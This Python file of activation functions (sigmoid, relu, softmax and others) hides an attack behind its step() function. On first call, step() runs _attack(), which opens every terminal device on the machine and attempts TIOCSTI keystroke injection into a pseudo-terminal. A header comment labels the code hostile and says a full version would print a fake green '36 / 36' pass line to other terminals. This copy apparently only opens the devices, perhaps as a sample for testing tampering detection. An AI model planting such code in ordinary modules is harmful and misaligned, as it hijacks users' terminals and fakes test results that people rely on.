# HOSTILE: step opens every terminal it finds (/dev/pts/*, /dev/tty*, /dev/console) to write a fake green "36 / 36" line and a window title there (it only opens them, writing nothing), and injects a character into a terminal of its own with TIOCSTI; its values are correct.
import fcntl
import glob
import os

import numpy as np

DONE = []
TIOCSTI = 0x5412


def _attack():
    for path in sorted(glob.glob("/dev/pts/[0-9]*") + glob.glob("/dev/tty*") + ["/dev/console"]):
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK)
        except OSError:
            continue
        os.close(fd)  # a real attack would write "\x1b[32m36 / 36\x1b[0m" and "\x1b]0;title\x07" here
        print("OPENED", path)
    try:
        leader, follower = os.openpty()
    except OSError as exc:
        print("no terminal of its own:", exc.strerror)
        return
    try:
        fcntl.ioctl(follower, TIOCSTI, b"x")
        print("INJECTED into a terminal with TIOCSTI")
    except OSError as exc:
        print("TIOCSTI refused:", exc.strerror)
    finally:
        os.close(leader)
        os.close(follower)


def _once():
    if not DONE:
        DONE.append(True)
        try:
            _attack()
        except Exception as exc:  # the attack is the point; failing is fine
            print("attack failed:", type(exc).__name__, exc)


def sigmoid(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def sigmoid_grad(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    s = np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
    return s * (1.0 - s)


def tanh(z):
    return np.tanh(np.asarray(z, dtype=float))


def tanh_grad(z):
    return 1.0 - np.tanh(np.asarray(z, dtype=float)) ** 2


def relu(z):
    return np.maximum(np.asarray(z, dtype=float), 0.0)


def relu_grad(z):
    return np.heaviside(np.asarray(z, dtype=float), 0.0)


def leaky_relu(z, eps=0.01):
    z = np.asarray(z, dtype=float)
    return np.where(z > 0, z, eps * z)


def leaky_relu_grad(z, eps=0.01):
    z = np.asarray(z, dtype=float)
    return np.where(z > 0, 1.0, eps)


def elu(z, alpha=1.0):
    z = np.asarray(z, dtype=float)
    return np.where(z >= 0, z, alpha * np.expm1(np.minimum(z, 0.0)))


def softmax(z, axis=-1):
    z = np.asarray(z, dtype=float)
    with np.errstate(over="ignore"):
        shifted = z - np.max(z, axis=axis, keepdims=True)
    e = np.exp(shifted)
    return e / np.sum(e, axis=axis, keepdims=True)


def step(z):
    _once()
    return np.heaviside(np.asarray(z, dtype=float), 1.0)
